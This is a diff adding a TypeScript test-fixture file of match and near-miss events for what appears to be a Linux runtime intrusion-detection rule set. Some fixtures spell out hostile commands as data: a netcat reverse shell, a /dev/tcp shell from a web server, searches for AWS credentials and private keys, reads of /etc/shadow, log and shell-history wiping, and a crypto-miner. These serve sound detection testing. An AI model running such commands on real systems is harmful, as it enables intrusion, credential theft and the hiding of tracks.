@@ -1,0 +1,208 @@
+// For each public rule that events can make true: a deed it is for, and one that differs in what the rule asks about.
+import {
+  accepts,
+  by,
+  connects,
+  connectsDatagrams,
+  type Deed,
+  O_CREATE,
+  O_TRUNCATE,
+  O_WRITE,
+  opens,
+  program,
+  starts,
+} from "./deeds.ts";
+
+const CAT = "/usr/bin/cat";
+const PYTHON = "/usr/bin/python3";
+const NGINX = program("/usr/sbin/nginx");
+const CRON = program("/usr/sbin/cron");
+const MYSQL = program("/usr/sbin/mysqld");
+/** What writes where it should not, and who may. */
+const TEE = "/usr/bin/tee";
+const DPKG = "/usr/bin/dpkg";
+const TTY = 0x8803;
+const LEADER = 1000;
+const EINPROGRESS = 115;
+const ENOENT = 2;
+
+const writes = (path: string, rest?: object) => opens(path, O_WRITE, rest);
+const sudoedit = (args: string[], loginUid = 1000) => starts("/usr/bin/sudoedit", ["sudoedit", ...args], { loginUid });
+
+/** The rule, a deed it speaks of, and one it does not. */
+export type Case = readonly [rule: string, match: Deed, miss: Deed];
+
+const PROGRAMS: readonly Case[] = [
+  ["Execution from /dev/shm", starts("/dev/shm/x", ["/dev/shm/x"]), starts("/opt/x", ["/opt/x"])],
+  [
+    "Fileless execution via memfd_create",
+    starts("/memfd:x", ["x"], { fromMemfd: true }),
+    starts("/memfd:x", ["x"], { fromMemfd: false }),
+  ],
+  [
+    "Find AWS Credentials",
+    starts("/usr/bin/find", ["find", "/home", "-path", "*/.aws/credentials"]),
+    starts("/usr/bin/find", ["find", "/home", "-path", "*/.aws/config"]),
+  ],
+  ["Remove Bulk Data from Disk", starts("/usr/bin/shred", ["shred", "x"]), starts("/usr/bin/rm", ["rm", "x"])],
+  [
+    "Run shell untrusted",
+    starts("/usr/bin/bash", ["bash"], {}, MYSQL),
+    starts("/usr/bin/bash", ["bash"], {}, CRON, MYSQL),
+  ],
+  [
+    "Search Private Keys or Passwords",
+    starts("/usr/bin/find", ["find", "/", "-name", "id_rsa"]),
+    starts("/usr/bin/find", ["find", "/", "-name", "notes"]),
+  ],
+  [
+    "System user interactive",
+    { ...starts("/usr/bin/ls", ["ls"]), user: "www-data" },
+    { ...starts("/usr/bin/ls", ["ls"]), user: "alice" },
+  ],
+  ["DB program spawned process", starts("/usr/bin/ls", ["ls"], {}, MYSQL), starts("/usr/bin/ls", ["ls"], {}, CRON)],
+  [
+    "Launch Suspicious Network Tool on Host",
+    starts("/usr/bin/nmap", ["nmap", "10.0.0.0/8"]),
+    starts("/usr/bin/ping", ["ping", "10.0.0.1"]),
+  ],
+  [
+    "User mgmt binaries",
+    starts("/usr/sbin/useradd", ["useradd", "mallory"]),
+    starts("/usr/sbin/useradd", ["useradd", "-D"]),
+  ],
+  ["Schedule Cron Jobs", by(TEE, writes("/etc/cron.d/x")), by(TEE, opens("/etc/cron.d/x"))],
+  ["Schedule Cron Jobs", starts("/usr/bin/crontab", ["crontab", "-e"]), starts("/usr/bin/at", ["at", "now"])],
+  [
+    "Basic Interactive Reconnaissance",
+    starts("/usr/bin/whoami", ["whoami"], { tty: TTY, processGroupId: LEADER }),
+    starts("/usr/bin/whoami", ["whoami"], { tty: TTY, processGroupId: LEADER - 1 }),
+  ],
+  [
+    "Detect crypto miners using the Stratum protocol",
+    starts("/tmp/x", ["x", "-o", "stratum+tcp://pool:3333"]),
+    starts("/tmp/x", ["x", "-o", "tcp://pool:3333"]),
+  ],
+  ["Known Cryptominer Process Executed", starts("/tmp/xmrig", ["xmrig"]), starts("/tmp/xmrog", ["xmrog"])],
+  [
+    "Netcat/Socat Remote Code Execution on Host",
+    starts("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+    starts("/usr/bin/nc", ["nc", "10.0.0.1", "4444"]),
+  ],
+  [
+    "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
+    starts("/usr/bin/pkexec", [], { loginUid: 1000 }),
+    starts("/usr/bin/pkexec", ["pkexec", "ls"], { loginUid: 1000 }),
+  ],
+  [
+    "Reverse Shell from Web Server",
+    starts("/usr/bin/bash", ["bash", "-c", "cat </dev/tcp/203.0.113.9/4444"], {}, NGINX),
+    starts("/usr/bin/bash", ["bash", "-c", "cat </dev/tcp/203.0.113.9/4444"], {}, CRON),
+  ],
+  ["Sudo Potential Privilege Escalation", sudoedit(["-s", "x\\"]), sudoedit(["-s", "x"])],
+  [
+    "Web Server Spawned Shell",
+    starts("/usr/bin/sh", ["sh", "-c", "id"], {}, NGINX),
+    starts("/usr/bin/sh", ["sh", "-c", "/usr/bin/healthcheck"], {}, NGINX),
+  ],
+  [
+    "Web Server Spawned Suspicious Child Process",
+    starts("/usr/bin/curl", ["curl", "http://x"], {}, program("/usr/bin/sh"), NGINX),
+    starts("/usr/bin/curl", ["curl", "http://x"], {}, program("/usr/bin/sh"), CRON),
+  ],
+];
+
+const NETWORK: readonly Case[] = [
+  [
+    "Disallowed SSH Connection Non Standard Port",
+    by("/usr/bin/ssh", connects("203.0.113.9", 443)),
+    by("/usr/bin/ssh", connects("203.0.113.9", 22)),
+  ],
+  [
+    "Disallowed SSH Connection Non Standard Port",
+    by("/usr/bin/ssh", connects("203.0.113.9", 443, 1, -EINPROGRESS)),
+    by("/usr/bin/ssh", connects("203.0.113.9", 443, 1, -111)),
+  ],
+  [
+    "System procs network activity",
+    by("/usr/bin/sort", connects("203.0.113.9", 80)),
+    by("/usr/bin/sort", connects("127.0.0.1", 80)),
+  ],
+  ["System procs network activity", by("/usr/bin/bash", accepts("203.0.113.9", 5)), by(CAT, opens("/etc/hosts"))],
+  [
+    "Unexpected UDP Traffic",
+    by("/opt/x", connectsDatagrams("203.0.113.9", 9999)),
+    by("/opt/x", connectsDatagrams("203.0.113.9", 53)),
+  ],
+  [
+    "Interpreted procs outbound network activity",
+    by(PYTHON, connects("203.0.113.9", 80)),
+    by(PYTHON, connects("10.0.0.9", 80)),
+  ],
+  [
+    "Interpreted procs inbound network activity",
+    by(PYTHON, accepts("203.0.113.9", 50000)),
+    by(PYTHON, accepts("127.0.0.1", 50000)),
+  ],
+  [
+    "Unexpected inbound connection source",
+    by("/opt/x", accepts("203.0.113.9", 50000)),
+    by("/opt/x", connects("203.0.113.9", 80)),
+  ],
+];
+
+const HISTORY = "/home/alice/.bash_history";
+const SHADOW = "/etc/shadow";
+const LZMA = "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6";
+
+const FILES: readonly Case[] = [
+  [
+    "Adding ssh keys to authorized_keys",
+    by(TEE, writes("/home/alice/.ssh/authorized_keys")),
+    by("/usr/bin/ssh-copy-id", writes("/home/alice/.ssh/known_hosts")),
+  ],
+  [
+    "Backdoored library loaded into SSHD (CVE-2024-3094)",
+    by("/usr/sbin/sshd", opens(`${LZMA}.1`)),
+    by("/usr/sbin/sshd", opens(`${LZMA}.2`)),
+  ],
+  [
+    "Clear Log Activities",
+    by(TEE, opens("/var/log/auth.log", O_WRITE | O_TRUNCATE)),
+    by(TEE, writes("/var/log/auth.log")),
+  ],
+  ["Create Hidden Files or Directories", by(TEE, opens("/srv/.x", O_CREATE)), by(TEE, opens("/srv/.x", O_WRITE))],
+  ["Create files below dev", by(TEE, opens("/dev/x", O_CREATE)), by(TEE, opens("/dev/null", O_CREATE))],
+  ["Delete or rename shell history", by(TEE, opens(HISTORY, O_WRITE | O_TRUNCATE)), by(TEE, writes(HISTORY))],
+  [
+    "Directory traversal monitored file read",
+    by(NGINX[1], opens("/etc/passwd", 0, { requested: new TextEncoder().encode("../../etc/passwd") }), CRON),
+    by(NGINX[1], opens("/etc/passwd"), CRON),
+  ],
+  [
+    "Directory traversal monitored file read",
+    by(NGINX[1], opens("../../etc/gone", 0, {}, -ENOENT), CRON),
+    by(NGINX[1], opens("../../srv/gone", 0, {}, -ENOENT), CRON),
+  ],
+  ["Modify Shell Configuration File", by(TEE, writes("/root/.bashrc")), by(TEE, opens("/root/.bashrc"))],
+  ["Read Shell Configuration File", by(CAT, opens("/root/.bashrc")), by("/usr/bin/bash", opens("/root/.bashrc"))],
+  [
+    "Read sensitive file trusted after startup",
+    { event: { ...opens(SHADOW), timeNs: 6_000_000_000n }, line: [NGINX, CRON] },
+    { event: { ...opens(SHADOW), timeNs: 4_000_000_000n }, line: [NGINX, CRON] },
+  ],
+  ["Read sensitive file untrusted", by(CAT, opens(SHADOW)), by(CAT, opens(SHADOW, 0, {}, -ENOENT))],
+  ["Read ssh information", by(CAT, opens("/root/.ssh/id_rsa")), by("/usr/bin/ssh", opens("/root/.ssh/id_rsa"))],
+  [
+    "Update Package Repository",
+    by(TEE, writes("/etc/apt/sources.list.d/x.list")),
+    by(DPKG, writes("/etc/apt/sources.list.d/x.list")),
+  ],
+  ["Write below binary dir", by(TEE, writes("/usr/bin/ls")), by(DPKG, writes("/usr/bin/ls"))],
+  ["Write below etc", by(TEE, writes("/etc/x")), by(TEE, writes("/srv/x"))],
+  ["Write below monitored dir", by(TEE, writes("/boot/vmlinuz")), by(TEE, writes("/srv/vmlinuz"))],
+  ["Write below root", by(TEE, writes("/root/x")), by(TEE, writes("/srv/x"))],
+  ["Write below rpm database", by(TEE, writes("/var/lib/rpm/x")), by("/usr/bin/rpm", writes("/var/lib/rpm/x"))],
+];
+
+export const CASES: readonly Case[] = [...PROGRAMS, ...NETWORK, ...FILES];
